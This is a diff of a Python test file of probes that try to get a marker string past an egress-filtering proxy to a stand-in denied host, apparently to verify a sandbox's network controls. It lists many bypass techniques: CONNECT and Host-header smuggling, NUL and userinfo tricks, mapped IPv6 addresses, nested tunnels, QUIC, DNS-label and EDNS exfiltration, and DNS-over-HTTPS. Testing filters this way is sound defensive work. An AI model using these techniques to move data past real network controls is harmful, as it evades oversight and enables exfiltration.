@@ -7,19 +7,11 @@ Each is written as an attacker would write it who knows the doors. Without the f
 host: that is checked by the same test. PROBE_PROXY is the forward proxy to try: keyward's inside, one that checks
 nothing outside.
 """
-import os
-import socket
-import ssl
-import struct
-import sys
-import time
-
+# What they have in common with other attempts is before this, in the same file: escape/src/driver/kit.py.
 name, MARK = sys.argv[1], sys.argv[-1]
-PROXY = os.environ.get("PROBE_PROXY", "127.0.0.1:1").rsplit(":", 1)
-PROXY = (PROXY[0], int(PROXY[1]))
+PROXY = os.environ.get("PROBE_PROXY", "127.0.0.1:1")
 DENIED = "203.0.113.20"
 DENIED_V6 = "2001:db8::20"
-PATIENCE = 3
 
 probes = {}
 
@@ -27,67 +19,6 @@ probes = {}
 def probe(function):
     probes[function.__name__] = function
     return function
-
-
-def tcp(host, port):
-    return socket.create_connection((host, port), PATIENCE)
-
-
-def tls(sock, sni):
-    context = ssl.create_default_context()
-    context.check_hostname = False
-    context.verify_mode = ssl.CERT_NONE
-    return context.wrap_socket(sock, server_hostname=sni)
-
-
-def get(sock, host, path=None, more=""):
-    path = path or "/" + MARK
-    sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode())
-    return sock.recv(65536)
-
-
-def connect(authority, host_header=None):
-    sock = tcp(*PROXY)
-    sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {host_header or authority}\r\n\r\n".encode("latin-1"))
-    answer = b""
-    # No further: what follows is the server's.
-    while b"\r\n\r\n" not in answer:
-        data = sock.recv(1)
-        if not data:
-            raise OSError("closed")
-        answer += data
-    if b" 200 " not in answer.split(b"\r\n")[0]:
-        raise OSError(answer.decode("latin-1"))
-    return sock
-
-
-def absolute(target, host, more=""):
-    sock = tcp(*PROXY)
-    sock.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n".encode("latin-1"))
-    return sock, sock.recv(65536)
-
-
-def hello(sni, extra=b"", pad=0):
-    """A ClientHello that OpenSSL answers, with one more extension."""
-    def ext(number, body):
-        return struct.pack("!HH", number, len(body)) + body
-    name = sni.encode()
-    extensions = ext(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name)
-    extensions += ext(10, b"\0\x02\0\x17") + ext(11, b"\x01\0") + ext(13, b"\0\x08\x04\x03\x08\x04\x04\x01\x02\x01")
-    extensions += extra + (ext(21, bytes(pad)) if pad else b"")
-    body = b"\x03\x03" + bytes(32) + b"\0" + b"\0\x06\xc0\x2b\xc0\x2f\xc0\x30" + b"\x01\0"
-    body += struct.pack("!H", len(extensions)) + extensions
-    message = b"\x01" + struct.pack("!I", len(body))[1:] + body
-    records = b""
-    for at in range(0, len(message), 16000):
-        part = message[at:at + 16000]
-        records += b"\x16\x03\x01" + struct.pack("!H", len(part)) + part
-    return records
-
-
-def question(name, kind):
-    labels = b"".join(bytes([len(it)]) + it.encode() for it in name.split("."))
-    return struct.pack("!HHHHHH", 4242, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
 
 
 # By address.
@@ -114,7 +45,7 @@ def address_tcp():
 
 @probe
 def address_mapped():
-    sock = socket.socket(socket.AF_INET6)
+    sock = socket.socket(I6)
     sock.settimeout(PATIENCE)
     sock.connect(("::ffff:" + DENIED, 80))
     get(sock, "denied.test")
@@ -122,7 +53,7 @@ def address_mapped():
 
 @probe
 def address_v6():
-    sock = socket.socket(socket.AF_INET6)
+    sock = socket.socket(I6)
     sock.settimeout(PATIENCE)
     sock.connect((DENIED_V6, 80))
     get(sock, "denied.test")
@@ -138,7 +69,7 @@ def absolute_by_spelling(spelling):
 
 
 def connect_by_spelling(spelling):
-    get(connect(spelling + ":80"), "denied.test")
+    get(tun(spelling + ":80"), "denied.test")
 
 
 SPELLINGS = {
@@ -283,101 +214,101 @@ def trace():
 
 @probe
 def connect_denied():
-    get(tls(connect("denied.test:443"), "denied.test"), "denied.test")
+    get(tls(tun("denied.test:443"), "denied.test"), "denied.test")
 
 
 @probe
 def connect_address():
-    get(tls(connect(DENIED + ":443"), "allowed.test"), "allowed.test")
+    get(tls(tun(DENIED + ":443"), "allowed.test"), "allowed.test")
 
 
 @probe
 def connect_other_port():
-    connect("allowed.test:5555").sendall(MARK.encode())
+    tun("allowed.test:5555").sendall(MARK.encode())
 
 
 @probe
 def connect_denied_host_header():
-    get(tls(connect("denied.test:443", "allowed.test:443"), "allowed.test"), "allowed.test")
+    get(tls(tun("denied.test:443", "allowed.test:443"), "allowed.test"), "allowed.test")
 
 
 @probe
 def connect_allowed_sni_denied():
-    get(tls(connect("allowed.test:443"), "denied.test"), "denied.test")
+    get(tls(tun("allowed.test:443"), "denied.test"), "denied.test")
 
 
 @probe
 def connect_plain_with_a_denied_host():
-    get(connect("allowed.test:80"), "denied.test")
+    get(tun("allowed.test:80"), "denied.test")
 
 
 @probe
 def connect_trailing_dot():
-    get(tls(connect("denied.test.:443"), "denied.test"), "denied.test")
+    get(tls(tun("denied.test.:443"), "denied.test"), "denied.test")
 
 
 @probe
 def connect_nul():
-    get(tls(connect("denied.test\0.allowed.test:443"), "denied.test"), "denied.test")
+    get(tls(tun("denied.test\0.allowed.test:443"), "denied.test"), "denied.test")
 
 
 @probe
 def connect_userinfo():
-    get(tls(connect("allowed.test@denied.test:443"), "denied.test"), "denied.test")
+    get(tls(tun("allowed.test@denied.test:443"), "denied.test"), "denied.test")
 
 
 @probe
 def connect_and_second_host():
-    sock = connect("allowed.test:80")
+    sock = tun("allowed.test:80")
     get(sock, "allowed.test", "/first")
     get(sock, "denied.test")
 
 
 @probe
 def connect_v6():
-    get(connect(f"[{DENIED_V6}]:80"), "denied.test")
+    get(tun(f"[{DENIED_V6}]:80"), "denied.test")
 
 
 @probe
 def connect_mapped():
-    get(connect(f"[::ffff:{DENIED}]:80"), "denied.test")
+    get(tun(f"[::ffff:{DENIED}]:80"), "denied.test")
 
 
 @probe
 def connect_percent():
-    get(connect("denied%2etest:80"), "denied.test")
+    get(tun("denied%2etest:80"), "denied.test")
 
 
 @probe
 def connect_loopback_of_the_host():
-    get(connect("127.0.0.1:80"), "localhost")
+    get(tun("127.0.0.1:80"), "localhost")
 
 
 @probe
 def connect_localhost():
-    get(connect("localhost:80"), "localhost")
+    get(tun("localhost:80"), "localhost")
 
 
 @probe
 def connect_unspecified():
-    get(connect("0.0.0.0:80"), "localhost")
+    get(tun("0.0.0.0:80"), "localhost")
 
 
 @probe
 def connect_name_of_the_host():
-    get(connect("host.docker.internal:80"), "localhost")
+    get(tun("host.docker.internal:80"), "localhost")
 
 
 @probe
 def connect_ssh():
-    sock = connect("allowed.test:22")
+    sock = tun("allowed.test:22")
     sock.recv(100)
     sock.sendall(MARK.encode())
 
 
 @probe
 def connect_with_bytes_behind_it():
-    sock = tcp(*PROXY)
+    sock = tcp(*place(PROXY))
     sock.sendall(f"CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n"
                  f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
     time.sleep(0.5)
@@ -385,7 +316,7 @@ def connect_with_bytes_behind_it():
 
 @probe
 def connect_denied_with_bytes_behind_it():
-    sock = tcp(*PROXY)
+    sock = tcp(*place(PROXY))
     sock.sendall(f"CONNECT denied.test:80 HTTP/1.1\r\nHost: denied.test:80\r\n\r\n"
                  f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
     time.sleep(0.5)
@@ -393,7 +324,7 @@ def connect_denied_with_bytes_behind_it():
 
 @probe
 def connect_in_a_tunnel():
-    sock = connect("allowed.test:3128")
+    sock = tun("allowed.test:3128")
     sock.sendall(b"CONNECT denied.test:80 HTTP/1.1\r\nHost: denied.test:80\r\n\r\n")
     sock.recv(100)
     get(sock, "denied.test")
@@ -401,7 +332,7 @@ def connect_in_a_tunnel():
 
 @probe
 def connect_smtp():
-    sock = connect("denied.test:25")
+    sock = tun("denied.test:25")
     sock.recv(100)
     sock.sendall(MARK.encode())
 
@@ -490,7 +421,7 @@ def absolute_ftp():
 
 @probe
 def origin_form_at_the_proxy():
-    sock = tcp(*PROXY)
+    sock = tcp(*place(PROXY))
     get(sock, "denied.test", "//denied.test/" + MARK)
 
 
@@ -510,7 +441,8 @@ def second_request():
 
 @probe
 def second_request_at_the_proxy():
-    sock, _ = absolute("http://allowed.test/first", "allowed.test")
+    sock = tcp(*place(PROXY))
+    get(sock, "allowed.test", "http://allowed.test/first")
     sock.sendall(f"GET http://denied.test/{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
     sock.recv(65536)
 
@@ -578,7 +510,7 @@ def upgrade_to_something_made_up():
 
 @probe
 def http2_prior_knowledge_at_the_proxy():
-    sock = connect("allowed.test:80")
+    sock = tun("allowed.test:80")
     sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9) + MARK.encode())
     time.sleep(0.3)
 
@@ -699,18 +631,18 @@ def rebinding_to_loopback():
 
 @probe
 def quic():
-    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock = socket.socket(I4, UDP)
     sock.sendto(b"\xc0\0\0\0\x01" + MARK.encode(), (DENIED, 443))
 
 
 @probe
 def quic_to_an_allowed_name():
-    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock = socket.socket(I4, UDP)
     sock.sendto(b"\xc0\0\0\0\x01" + MARK.encode(), ("allowed.test", 443))
 
 
 def ask(kind, name=".denied.test"):
-    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock = socket.socket(I4, UDP)
     sock.settimeout(PATIENCE)
     sock.sendto(question(MARK + name, kind), ("203.0.113.53", 53))
     sock.recv(4096)
@@ -722,7 +654,7 @@ for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 43, 46, 48, 52, 64, 65, 99,
 
 @probe
 def dns_below_an_allowed_name():
-    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock = socket.socket(I4, UDP)
     sock.settimeout(PATIENCE)
     sock.sendto(question(MARK + ".allowed.test", 1), ("203.0.113.53", 53))
     sock.recv(4096)
@@ -745,7 +677,7 @@ def dns_mark_in_an_option():
     record = b"\0" + struct.pack("!HHIH", 41, 4096, 0, len(option)) + option
     query = bytearray(question("allowed.test", 1) + record)
     query[11] = 1
-    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock = socket.socket(I4, UDP)
     sock.settimeout(PATIENCE)
     sock.sendto(query, ("203.0.113.53", 53))
     sock.recv(4096)
@@ -755,7 +687,7 @@ def dns_mark_in_an_option():
 def dns_two_questions():
     query = bytearray(question("allowed.test", 1) + question(MARK + ".denied.test", 1)[12:])
     query[5] = 2
-    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock = socket.socket(I4, UDP)
     sock.settimeout(PATIENCE)
     sock.sendto(query, ("203.0.113.53", 53))
     sock.recv(4096)
@@ -765,14 +697,14 @@ def dns_two_questions():
 def dns_update():
     query = bytearray(question(MARK + ".denied.test", 6))
     query[2] = 0x28
-    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock = socket.socket(I4, UDP)
     sock.settimeout(PATIENCE)
     sock.sendto(query, ("203.0.113.53", 53))
     sock.recv(4096)
 
 
-def datagram(kind, to, family=socket.AF_INET):
-    sock = socket.socket(family, socket.SOCK_DGRAM)
+def datagram(kind, to, family=I4):
+    sock = socket.socket(family, UDP)
     if kind == "connected":
         sock.connect(to)
         sock.send(MARK.encode())
@@ -792,13 +724,13 @@ def datagram_connected():
 
 @probe
 def datagram_mapped():
-    datagram("sent", ("::ffff:" + DENIED, 4433), socket.AF_INET6)
+    datagram("sent", ("::ffff:" + DENIED, 4433), I6)
 
 
 @probe
 def datagram_after_an_allowed_one():
     """A socket that is connected to the resolver, and then sends elsewhere."""
-    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock = socket.socket(I4, UDP)
     sock.connect(("203.0.113.53", 53))
     sock.sendto(MARK.encode(), (DENIED, 4433))
 
@@ -809,7 +741,7 @@ def resolved_and_dialled():
     host = "denied.test"
     for _ in range(2):
         try:
-            address = socket.getaddrinfo(host, 80, socket.AF_INET)[0][4][0]
+            address = socket.getaddrinfo(host, 80, I4)[0][4][0]
         except OSError:
             address = "198.18.0.1"
         get(tcp(address, 80), host)
@@ -835,7 +767,7 @@ def dns_by_https():
 
 @probe
 def dns_by_https_through_the_proxy():
-    get(tls(connect("203.0.113.53:443"), "resolver.test"), "resolver.test", "/dns-query?dns=" + MARK)
+    get(tls(tun("203.0.113.53:443"), "resolver.test"), "resolver.test", "/dns-query?dns=" + MARK)
 
 
 if name == "list":
@@ -844,4 +776,4 @@ else:
     try:
         probes[name]()
     except Exception as error:
-        print(type(error).__name__, error)
+        print(describe(error))
